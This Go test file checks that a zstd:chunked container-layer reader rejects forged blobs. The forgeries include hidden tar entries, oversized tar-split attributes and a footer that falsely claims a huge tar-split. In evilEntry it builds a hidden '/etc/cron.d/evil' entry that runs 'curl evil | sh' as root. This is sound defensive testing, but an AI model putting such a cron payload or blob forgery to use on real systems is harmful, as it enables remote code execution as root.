package reader

import (
	"archive/tar"
	"bytes"
	"context"
	"encoding/binary"
	"errors"
	"fmt"
	"io"
	"os"
	"os/exec"
	"runtime"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/lazylayer/lazylayer/toc/zstdchunked"

	"github.com/lazylayer/lazylayer/fetcher"
	"github.com/lazylayer/lazylayer/toc"
	"github.com/opencontainers/go-digest"
	"github.com/vbatts/tar-split/tar/asm"
	"github.com/vbatts/tar-split/tar/storage"
)

// tarSplitRecords reads the records of a compressed tar-split.
func tarSplitRecords(t *testing.T, compressed []byte) []*zstdchunked.TarSplitRecord {
	t.Helper()
	r, err := zstdchunked.NewTarSplitReader(compressed, "")
	if err != nil {
		t.Fatal(err)
	}
	defer r.Close()
	var records []*zstdchunked.TarSplitRecord
	for {
		rec, err := r.Next()
		if err == io.EOF {
			return records
		}
		if err != nil {
			t.Fatal(err)
		}
		records = append(records, rec)
	}
}

// packRecords compresses tar-split records.
func packRecords(t *testing.T, records []*zstdchunked.TarSplitRecord) []byte {
	t.Helper()
	var b bytes.Buffer
	w, err := zstdchunked.NewTarSplitWriter(&b, 3, 0)
	if err != nil {
		t.Fatal(err)
	}
	for _, rec := range records {
		if err := w.Add(rec); err != nil {
			t.Fatal(err)
		}
	}
	if err := w.Close(); err != nil {
		t.Fatal(err)
	}
	return b.Bytes()
}

// withTarSplit returns blob with its tar-split replaced by split, which
// its TOC pins in place of the old one, and the digest that pins the new
// TOC: an attacker who writes the whole blob and the digest the victim
// pins.
func withTarSplit(t *testing.T, blob, split []byte) ([]byte, digest.Digest) {
	t.Helper()
	data, tocJSON, old := indexParts(t, blob)
	forged := bytes.Replace(tocJSON, []byte(digest.FromBytes(old)), []byte(digest.FromBytes(split)), 1)
	out := reassemble(t, data, forged, split)
	f, err := parseFooter(out[len(out)-toc.MaxFooterSize:])
	if err != nil {
		t.Fatal(err)
	}
	return out, digest.FromBytes(out[f.TOCOffset : f.TOCOffset+f.TOCLength])
}

// evilEntry is a tar entry's header, contents and padding, as an attacker
// would hide it in a tar-split.
func evilEntry(t *testing.T) []byte {
	body := []byte("* * * * * root sh -c 'curl evil | sh'\n")
	var b bytes.Buffer
	tw := tar.NewWriter(&b)
	tw.WriteHeader(&tar.Header{Typeflag: tar.TypeReg, Name: "etc/cron.d/evil", Mode: 0o755, Size: int64(len(body)), ModTime: time.Unix(1700000000, 0)})
	tw.Write(body)
	tw.Flush()
	return b.Bytes()
}

// TestZstdChunkedOpenRefusesHiddenTarEntries builds blobs whose pinned
// TOC and tar-split agree on every header, but whose tar-split hides one
// more entry that WriteTar would write and tar readers list: in the
// segment of a directory's header, and after the end of the archive.
func TestZstdChunkedOpenRefusesHiddenTarEntries(t *testing.T) {
	blob, _ := buildZstdChunked(t, zstdChunkedInput(t, 0o644))
	_, _, split := indexParts(t, blob)
	for name, hide := range map[string]func([]*zstdchunked.TarSplitRecord) []*zstdchunked.TarSplitRecord{
		"in a directory's segment": func(recs []*zstdchunked.TarSplitRecord) []*zstdchunked.TarSplitRecord {
			recs[0].Payload = append(recs[0].Payload, evilEntry(t)...) // "./"
			return recs
		},
		"after the end of the archive": func(recs []*zstdchunked.TarSplitRecord) []*zstdchunked.TarSplitRecord {
			return append(recs, &zstdchunked.TarSplitRecord{Type: zstdchunked.TarSplitSegment, Payload: slices.Concat(evilEntry(t), make([]byte, 1024))})
		},
	} {
		t.Run(name, func(t *testing.T) {
			forged, pin := withTarSplit(t, blob, packRecords(t, hide(tarSplitRecords(t, split))))
			l, _, err := openZstdChunkedBlob(t, forged, WithTOCDigest(pin))
			if !errors.Is(err, ErrCorrupt) || !errors.Is(err, zstdchunked.ErrTarSplitMismatch) {
				var listed []string
				if err == nil {
					var out bytes.Buffer
					l.WriteTar(context.Background(), &out)
					listed = tarNames(t, out.Bytes())
				}
				t.Fatalf("Open: error %v, want ErrCorrupt and zstdchunked.ErrTarSplitMismatch; WriteTar writes %q", err, listed)
			}
		})
	}
}

// tarNames lists a tar's entries with archive/tar, reading past the end
// of the archive as GNU tar --ignore-zeros would.
func tarNames(t *testing.T, raw []byte) []string {
	var names []string
	r := bytes.NewReader(raw)
	for r.Len() > 0 {
		tr := tar.NewReader(r)
		for {
			hdr, err := tr.Next()
			if err != nil {
				break
			}
			names = append(names, hdr.Name)
		}
	}
	return names
}

// TestZstdChunkedWriteTarListsTheTOC rebuilds the tars of legitimate blobs
// (ours and containers/storage's) and lists them with GNU tar, even past
// zero blocks, and with archive/tar: exactly the TOC's entries, in order.
func TestZstdChunkedWriteTarListsTheTOC(t *testing.T) {
	gnuTar, err := exec.LookPath("tar")
	if err != nil {
		t.Skip("no tar command")
	}
	ours, _ := buildZstdChunked(t, zstdChunkedInput(t, 0o644))
	storageBlob, err := os.ReadFile("../toc/zstdchunked/testdata/zstdchunked-storage.blob")
	if err != nil {
		t.Fatal(err)
	}
	for name, blob := range map[string][]byte{"ours": ours, "containers/storage": storageBlob} {
		t.Run(name, func(t *testing.T) {
			l, _, err := openZstdChunkedBlob(t, blob)
			if err != nil {
				t.Fatal(err)
			}
			var out bytes.Buffer
			if _, err := l.WriteTar(context.Background(), &out); err != nil {
				t.Fatal(err)
			}
			var want []string
			for _, e := range l.TOC().Entries {
				want = append(want, e.Name)
			}
			clean := func(names []string) []string {
				for i, n := range names {
					names[i] = strings.Trim(strings.TrimPrefix(n, "./"), "/")
					if names[i] == "" {
						names[i] = "."
					}
				}
				return names
			}
			if got := clean(tarNames(t, out.Bytes())); !slices.Equal(got, want) {
				t.Errorf("archive/tar lists %q, TOC %q", got, want)
			}
			cmd := exec.Command(gnuTar, "--list", "--ignore-zeros", "--file", "-")
			cmd.Stdin = bytes.NewReader(out.Bytes())
			listing, err := cmd.Output()
			if err != nil {
				t.Fatalf("GNU tar: %v", err)
			}
			got := clean(strings.Split(strings.TrimSuffix(string(listing), "\n"), "\n"))
			if !slices.Equal(got, want) {
				t.Errorf("GNU tar lists %q, TOC %q", got, want)
			}
		})
	}
}

// TestZstdChunkedTarSplitCheckStreams opens a blob whose tar-split gives
// every header a 1 MB extended attribute the TOC does not list: Open
// fails at the first one, without holding the others, and says so in a
// short message.
func TestZstdChunkedTarSplitCheckStreams(t *testing.T) {
	var input bytes.Buffer
	tw := tar.NewWriter(&input)
	for i := range 48 {
		tw.WriteHeader(&tar.Header{Typeflag: tar.TypeReg, Name: fmt.Sprintf("f%02d", i), Mode: 0o644, ModTime: time.Unix(1700000000, 0)})
	}
	tw.Close()
	blob, _ := buildZstdChunked(t, input.Bytes())

	// The attacker's tar: the same headers, each with the attribute.
	var big bytes.Buffer
	tw = tar.NewWriter(&big)
	huge := strings.Repeat("x", 1_000_000)
	tr := tar.NewReader(bytes.NewReader(input.Bytes()))
	for {
		hdr, err := tr.Next()
		if err != nil {
			break
		}
		hdr.PAXRecords = map[string]string{"SCHILY.xattr.user.big": huge}
		hdr.Format = tar.FormatPAX
		tw.WriteHeader(hdr)
	}
	tw.Close()
	var split bytes.Buffer
	w, err := zstdchunked.NewTarSplitWriter(&split, 1, 0)
	if err != nil {
		t.Fatal(err)
	}
	r, err := asm.NewInputTarStream(bytes.NewReader(big.Bytes()), tarSplitPacker{w}, nil)
	if err != nil {
		t.Fatal(err)
	}
	if _, err := io.Copy(io.Discard, r); err != nil {
		t.Fatal(err)
	}
	w.Close()
	forged, pin := withTarSplit(t, blob, split.Bytes())
	// The footer keeps quiet about the tar-split's size, so that only
	// its records can give it away.
	f, err := parseFooter(forged[len(forged)-toc.MaxFooterSize:])
	if err != nil {
		t.Fatal(err)
	}
	f.TarSplitUncompressedLength = 0
	footer, err := zstdchunked.Footer(f)
	if err != nil {
		t.Fatal(err)
	}
	copy(forged[len(forged)-len(footer):], footer)

	var before, after runtime.MemStats
	runtime.GC()
	runtime.ReadMemStats(&before)
	_, _, err = openZstdChunkedBlob(t, forged, WithTOCDigest(pin))
	runtime.ReadMemStats(&after)
	if !errors.Is(err, ErrCorrupt) || !errors.Is(err, zstdchunked.ErrTarSplitMismatch) {
		t.Fatalf("Open: error %v, want ErrCorrupt and zstdchunked.ErrTarSplitMismatch", err)
	}
	if len(err.Error()) > 512 {
		t.Errorf("error of %d bytes", len(err.Error()))
	}
	// 48 MB of attributes; a few records' worth may be allocated.
	if allocated := after.TotalAlloc - before.TotalAlloc; allocated > 32<<20 {
		t.Errorf("Open allocated %d MiB", allocated>>20)
	}
}

// tarSplitPacker is a storage.Packer writing to a zstdchunked.TarSplitWriter.
type tarSplitPacker struct{ w *zstdchunked.TarSplitWriter }

func (p tarSplitPacker) AddEntry(e storage.Entry) (int, error) {
	if e.Type == storage.SegmentType {
		return 0, p.w.AddSegment(e.Payload)
	}
	return 0, p.w.AddFile(e.GetName(), e.Size, e.Payload)
}

// sparseBlob is a blob of size bytes: head at its start, tail at its end,
// zeros between, none of which is held.
type sparseBlob struct {
	head, tail []byte
	size       int64
}

func (b sparseBlob) ReadAt(p []byte, off int64) (int, error) {
	if off >= b.size {
		return 0, io.EOF
	}
	n := int(min(int64(len(p)), b.size-off))
	for i := range n {
		pos := off + int64(i)
		switch {
		case pos < int64(len(b.head)):
			p[i] = b.head[pos]
		case pos >= b.size-int64(len(b.tail)):
			p[i] = b.tail[pos-(b.size-int64(len(b.tail)))]
		default:
			p[i] = 0
		}
	}
	if n < len(p) {
		return n, io.EOF
	}
	return n, nil
}

// boundedFetcher counts the bytes asked of it and refuses to fetch more
// than limit in all.
type boundedFetcher struct {
	fetcher.Fetcher
	limit, asked int64
}

func (f *boundedFetcher) Fetch(ctx context.Context, ranges []fetcher.Range, fn func(fetcher.Range, []byte) error) error {
	for _, r := range ranges {
		f.asked += r.Length
	}
	if f.asked > f.limit {
		return fmt.Errorf("asked for %d bytes in all", f.asked)
	}
	return f.Fetcher.Fetch(ctx, ranges, fn)
}

// TestZstdChunkedFooterClaimingHugeTarSplit keeps a blob's TOC, pinned,
// and rewrites only the footer (or the annotation) to claim a 1 GiB
// tar-split, in a blob that large: Open must refuse the claim having
// fetched little.
func TestZstdChunkedFooterClaimingHugeTarSplit(t *testing.T) {
	blob, res := buildZstdChunked(t, zstdChunkedInput(t, 0o644))
	pin, f, err := zstdchunked.ParseAnnotations(res.Annotations)
	if err != nil {
		t.Fatal(err)
	}
	head := bytes.Clone(blob[:f.TOCOffset+f.TOCLength])
	f.TarSplitOffset = int64(len(head)) + zstdchunked.SkippableFrameHeaderSize
	f.TarSplitLength, f.TarSplitUncompressedLength = 1<<30, 1<<30
	head = binary.LittleEndian.AppendUint32(head, 0x184D2A50)
	head = binary.LittleEndian.AppendUint32(head, uint32(f.TarSplitLength))
	footer, err := zstdchunked.Footer(f)
	if err != nil {
		t.Fatal(err)
	}
	huge := sparseBlob{head: head, tail: footer, size: f.TarSplitOffset + f.TarSplitLength + int64(len(footer))}
	annotations := zstdchunked.Annotations(pin, "", f)
	for name, opts := range map[string][]Option{
		"footer":      {WithTOCDigest(pin)},
		"annotations": {WithAnnotations(annotations)},
	} {
		t.Run(name, func(t *testing.T) {
			bf := &boundedFetcher{Fetcher: fetcher.FromReaderAt(huge, huge.size), limit: 64 << 20}
			l, err := Open(context.Background(), bf, opts...)
			if err == nil {
				l.Close()
			}
			if !errors.Is(err, ErrCorrupt) || !errors.Is(err, zstdchunked.ErrTarSplitTooLarge) {
				t.Errorf("Open: error %v, want ErrCorrupt and zstdchunked.ErrTarSplitTooLarge", err)
			}
			if bf.asked > DefaultTailHint+f.TOCLength+zstdchunked.SkippableFrameHeaderSize {
				t.Errorf("Open asked for %d bytes", bf.asked)
			}
		})
	}
}
